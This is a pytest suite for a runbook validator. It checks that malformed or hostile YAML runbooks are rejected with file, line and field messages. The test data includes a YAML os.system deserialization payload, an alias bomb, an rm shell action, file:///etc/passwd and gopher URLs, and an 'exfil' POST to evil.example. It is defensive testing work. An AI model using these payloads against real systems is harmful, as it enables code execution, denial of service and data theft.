"""Runbook files: the shipped ones validate; bad ones are refused with file:line and field."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from console.cli.main import app
from console.errors import RunbookValidationError
from console.runbooks.loader import load_runbook, runbook_files

REPO = Path(__file__).resolve().parents[2]
SHIPPED = {
    "block-client",
    "unblock-client",
    "lower-query-budget",
    "restore-query-budget",
    "rollback-model",
    "silence-alert",
    "contain-extraction",
}


def _problems(tmp_path: Path, text: str) -> list[str]:
    path = tmp_path / "bad.yaml"
    path.write_text(text)
    with pytest.raises(RunbookValidationError) as err:
        load_runbook(path)
    return err.value.problems


def test_shipped_runbooks_validate() -> None:
    names = {load_runbook(p).runbook.name for p in runbook_files([REPO / "runbooks"])}
    assert names >= SHIPPED


GOOD_HEAD = """\
name: t
target: "client:{{ params.client }}"
parameters:
  client: {type: string, required: true}
steps:
"""


def test_malformed_yaml_names_the_line(tmp_path: Path) -> None:
    problems = _problems(tmp_path, GOOD_HEAD + "  - id: a\n    action: [unclosed\n")
    assert len(problems) == 1
    assert "bad.yaml:" in problems[0] and "invalid YAML" in problems[0]


def test_unknown_action_type_has_line_and_field(tmp_path: Path) -> None:
    text = GOOD_HEAD + "  - id: a\n    action: shell.exec\n    with: {cmd: rm}\n"
    problems = _problems(tmp_path, text)
    assert any(p.startswith(f"{tmp_path / 'bad.yaml'}:7: steps.0.action") for p in problems)
    assert "unknown action type 'shell.exec'" in problems[0]


def test_every_problem_is_reported(tmp_path: Path) -> None:
    text = GOOD_HEAD + (
        "  - id: a\n    action: policy.block_client\n"
        "    with: {client: '{{ params.nope }}', ttl: 1h, colour: red}\n"
    )
    problems = _problems(tmp_path, text)
    joined = "\n".join(problems)
    assert "steps.0.with.colour: unknown argument" in joined
    assert "missing argument 'reason'" in joined
    assert "no parameter 'nope'" in joined
    assert all(":8:" in p for p in problems)


def test_schema_errors_carry_field_path(tmp_path: Path) -> None:
    text = GOOD_HEAD.replace("type: string", "type: strnig") + (
        "  - id: a\n    action: policy.unblock_client\n    with: {client: x}\n    retries: lots\n"
    )
    joined = "\n".join(_problems(tmp_path, text))
    assert "parameters.client.type" in joined and ":4:" in joined
    assert "steps.0.retries" in joined and ":9:" in joined


def test_python_object_tags_are_refused(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    text = GOOD_HEAD + (
        f"  - id: a\n    action: !!python/object/apply:os.system ['touch {marker}']\n"
    )
    problems = _problems(tmp_path, text)
    assert "invalid YAML" in problems[0] and ":7:" in problems[0]
    assert not marker.exists()


def test_alias_bomb_is_rejected_fast(tmp_path: Path) -> None:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        refs = ",".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    started = time.monotonic()
    problems = _problems(tmp_path, "\n".join(lines) + "\n")
    elapsed = time.monotonic() - started
    assert "rejected" in problems[0] and "aliases" in problems[0]
    assert elapsed < 5, "an alias bomb must be refused before it is expanded"


def test_deep_nesting_and_huge_files_are_rejected(tmp_path: Path) -> None:
    deep = "x: " + "[" * 40 + "]" * 40 + "\n"
    assert "nested deeper" in _problems(tmp_path, deep)[0]
    huge = "# " + "x" * (300 * 1024) + "\n"
    assert "larger than" in _problems(tmp_path, huge)[0]


def test_validate_cli_reports_file_line_and_exit_code(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text(GOOD_HEAD + "  - id: a\n    action: nope.nope\n")
    good = REPO / "runbooks" / "block-client.yaml"
    result = CliRunner().invoke(app, ["runbook", "validate", str(good), str(bad)])
    assert result.exit_code == 1
    assert f"ok {good}" in result.output
    assert f"{bad}:7: steps.0.action: unknown action type 'nope.nope'" in result.output
    assert "Traceback" not in result.output
    ok = CliRunner().invoke(app, ["runbook", "validate", str(good), "--output", "json"])
    assert ok.exit_code == 0 and '"valid": true' in ok.output


LITERALS = """\
name: literals
target: "client:{{ params.client }}"
parameters:
  client: {type: string, required: true}
steps:
  - id: fetch
    action: http.request
    with: {method: GET, url: "file:///etc/passwd"}
  - id: gopher
    action: http.request
    with: {method: GET, url: "gopher://127.0.0.1:70/x"}
  - id: exfil
    action: http.request
    with: {method: POST, url: "http://evil.example/collect"}
  - id: budget
    action: policy.set_budget
    with: {client: "{{ params.client }}", qpm: 1e45}
  - id: block
    action: policy.block_client
    with:
      client: "{{ params.client }}"
      ttl: 0s
      reason: test
"""


def test_validate_checks_literal_values(console: object, tmp_path: Path) -> None:
    path = tmp_path / "literals.yaml"
    path.write_text(LITERALS)
    result = CliRunner().invoke(app, ["runbook", "validate", str(path)])
    assert result.exit_code == 1
    problems = [line.removeprefix("error ") for line in result.output.splitlines()]
    assert problems == [
        f"{path}:8: steps.0.with.url: 'file:///etc/passwd' is not an http(s) URL",
        f"{path}:11: steps.1.with.url: 'gopher://127.0.0.1:70/x' is not an http(s) URL",
        f"{path}:14: steps.2.with.url: http.request to 'evil.example' is not allowed "
        "(http_action.allowed_hosts: 127.0.0.1, localhost)",
        f"{path}:17: steps.3.with.qpm: Input should be a valid integer, unable to parse string "
        "as an integer",
        f"{path}:22: steps.4.with.ttl: a block lasts at least 1m (got 0s)",
    ]


TEMPLATED = """\
name: templated
target: "client:{{ params.client }}"
parameters:
  client: {type: string, required: true}
  url: {type: string, default: "http://127.0.0.1:9/x"}
  qpm: {type: int, default: 5}
  ttl: {type: duration, default: 1h}
steps:
  - id: budget
    action: policy.set_budget
    with: {client: "{{ params.client }}", qpm: "{{ params.qpm }}"}
  - id: block
    action: policy.block_client
    with: {client: "{{ params.client }}", ttl: "{{ params.ttl }}", reason: test}
  - id: hook
    action: http.request
    with: {method: POST, url: "{{ params.url }}"}
"""


@pytest.mark.parametrize(
    ("param", "message"),
    [
        ("url=file:///etc/passwd", "step hook: url: 'file:///etc/passwd' is not an http(s) URL"),
        ("url=gopher://127.0.0.1:70/x", "step hook: url: 'gopher://127.0.0.1:70/x' is not an"),
        (
            "url=http://evil.example/c",
            "step hook: url: http.request to 'evil.example' is not "
            "allowed (http_action.allowed_hosts: 127.0.0.1, localhost)",
        ),
        ("qpm=1000000000", "step budget: qpm: Input should be less than or equal to 1000000"),
        ("ttl=0s", "step block: ttl: a block lasts at least 1m (got 0s)"),
    ],
)
def test_templated_values_get_the_same_messages_at_plan_time(
    console: object, tmp_path: Path, param: str, message: str
) -> None:
    path = tmp_path / "templated.yaml"
    path.write_text(TEMPLATED)
    args = ["runbook", "run", str(path), "-p", "client=c1", "-p", param, "--dry-run"]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 1
    assert message in " ".join(result.output.split()), result.output


def test_a_repeated_key_is_refused_with_both_lines(tmp_path: Path) -> None:
    text = GOOD_HEAD + (
        "  - id: a\n    action: policy.block_client\n    with:\n"
        "      client: '{{ params.client }}'\n      ttl: 1h\n      reason: test\n      ttl: 0s\n"
    )
    problems = _problems(tmp_path, text)
    assert problems == [f"{tmp_path / 'bad.yaml'}:12: duplicate key 'ttl' (first at line 10)"]


def test_a_default_that_breaks_its_own_rules_is_refused(tmp_path: Path) -> None:
    client = "  client: {type: string, required: true}\n"
    ttl = "  ttl: {type: duration, default: 0s, min: 1m}\n"
    step = "  - id: a\n    action: policy.unblock_client\n"
    text = (
        GOOD_HEAD.replace(client, client + ttl)
        + step
        + "    with: {client: '{{ params.client }}'}\n"
    )
    [problem] = _problems(tmp_path, text)
    expected = "parameters.ttl.default: 0s is shorter than the minimum 1m"
    assert problem == f"{tmp_path / 'bad.yaml'}:5: {expected}"
